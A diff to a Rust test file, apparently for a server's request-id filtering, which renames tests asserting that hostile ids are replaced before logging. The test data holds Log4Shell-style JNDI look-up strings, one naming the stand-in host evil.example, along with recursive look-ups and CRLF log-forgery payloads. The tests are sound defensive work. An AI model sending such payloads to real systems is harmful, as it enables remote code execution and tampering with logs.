@@ -1,10 +1,10 @@
-//! Ids that were made to harm whoever logs them.
+//! Request ids that exploit loggers.
 
 use crate::request_ids::refused::is_replaced;
 
-// F16: a look-up that a logger ran on what the context of its thread held
+// F16: a logger evaluated look-ups in values from the thread's context.
 #[tokio::test]
-async fn cve_2021_45046_an_id_that_is_a_look_up_is_replaced() {
+async fn cve_2021_45046_id_with_a_look_up_is_replaced() {
     for id in [
         "${jndi:ldap://127.0.0.1:1389/a}",
         "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
@@ -15,16 +15,16 @@ async fn cve_2021_45046_an_id_that_is_a_look_up_is_replaced() {
     }
 }
 
-// F16: the same, nested in itself without an end
+// F16: a look-up that refers to itself recursed without end.
 #[tokio::test]
-async fn cve_2021_45105_an_id_that_looks_itself_up_is_replaced() {
+async fn cve_2021_45105_id_with_a_recursive_look_up_is_replaced() {
     is_replaced(&[b"${${::-${::-$${::-j}}}}"]).await;
     is_replaced(&["${ctx:id}".repeat(10).as_bytes()]).await;
 }
 
-// F16: what a client sent began a line of its own in the log of an error
+// F16: client input could forge a line in the error log.
 #[tokio::test]
-async fn ghsa_674p_xv2x_rf3g_an_id_that_forges_a_line_of_a_log_is_replaced() {
+async fn ghsa_674p_xv2x_rf3g_id_that_forges_a_log_line_is_replaced() {
     for id in [
         "7%0d%0aERROR",
         r"7\r\nERROR",
